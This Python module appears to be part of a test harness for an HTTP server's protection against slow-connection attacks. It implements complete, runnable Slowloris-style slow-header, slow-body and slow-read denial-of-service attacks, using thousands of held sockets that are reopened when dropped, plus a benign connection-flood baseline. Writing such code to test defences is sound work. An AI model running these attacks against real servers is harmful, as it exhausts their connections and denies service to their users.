"""Attacks as objects: `open_one` adds a connection, `step` does what the attacker does every second.

Each belongs to a kind of slowness that a guard has to notice: a head, a body, or a reader that never gets on.
A connection that the server has dropped is counted and, where that is the point of the attack, opened again.
"""

import select
import socket


class Attack:
    name = ""
    connections = 0
    reopens = True

    def __init__(self, host, port, target, large):
        self.host, self.port, self.target, self.large = host, port, target, large
        self.held = []
        self.dropped = 0
        self.refused = 0

    def connect(self):
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.prepare(connection)
        connection.settimeout(2)
        try:
            connection.connect((self.host, self.port))
            self.greet(connection)
        except OSError:
            connection.close()
            self.refused += 1
            return False
        connection.setblocking(False)
        self.held.append(connection)
        return True

    def prepare(self, connection):
        """Before connecting; most attacks need nothing."""

    def greet(self, connection):
        raise NotImplementedError

    def bother(self, connection):
        """Once a second; raises OSError when the connection is gone."""

    def is_gone(self, connection):
        """Ended by the server, with or without an answer before it."""
        try:
            while True:
                if not connection.recv(65536):
                    return True
        except BlockingIOError:
            return False
        except OSError:
            return True

    def step(self):
        living = []
        for connection in self.held:
            try:
                self.bother(connection)
                gone = self.is_gone(connection)
            except BlockingIOError:
                gone = False
            except OSError:
                gone = True
            if gone:
                connection.close()
                self.dropped += 1
            else:
                living.append(connection)
        self.held = living
        if self.reopens:
            while len(self.held) < self.connections and self.connect():
                continue

    def close(self):
        for connection in self.held:
            connection.close()
        self.held = []

    def head(self, method="GET", target=None, fields=""):
        return f"{method} {target or self.target} HTTP/1.1\r\nHost: {self.host}\r\n{fields}".encode()


class Crowd(Attack):
    """Nothing hostile: very many connections that each had an answer and stay."""

    name = "crowd"
    connections = 10_000
    reopens = False

    def greet(self, connection):
        connection.sendall(self.head() + b"\r\n")
        if not connection.recv(65536).startswith(b"HTTP/1.1 200"):
            raise OSError("refused")


class SlowHead(Attack):
    """A head that never ends: one more field every second."""

    name = "slow-head"
    connections = 2_000

    def greet(self, connection):
        connection.sendall(self.head())

    def bother(self, connection):
        connection.send(b"x-more: 1\r\n")


class SlowBody(Attack):
    """A large body is promised and comes a byte at a time."""

    name = "slow-body"
    connections = 2_000

    def greet(self, connection):
        connection.sendall(self.head("POST", fields="Content-Length: 1000000\r\n") + b"\r\n")

    def bother(self, connection):
        connection.send(b"x")


class SlowRead(Attack):
    """Large answers are asked for through the smallest window and hardly read."""

    name = "slow-read"
    connections = 1_000

    def prepare(self, connection):
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)

    def greet(self, connection):
        connection.sendall((self.head(target=self.large) + b"\r\n") * 16)

    def is_gone(self, connection):
        """Asks for the state first: a reset hides behind bytes that were received before it."""
        state = select.poll()
        state.register(connection, select.POLLERR | select.POLLHUP)
        if state.poll(0):
            return True
        try:
            return not connection.recv(64)
        except BlockingIOError:
            return False
        except OSError:
            return True


ATTACKS = {attack.name: attack for attack in (Crowd, SlowHead, SlowBody, SlowRead)}
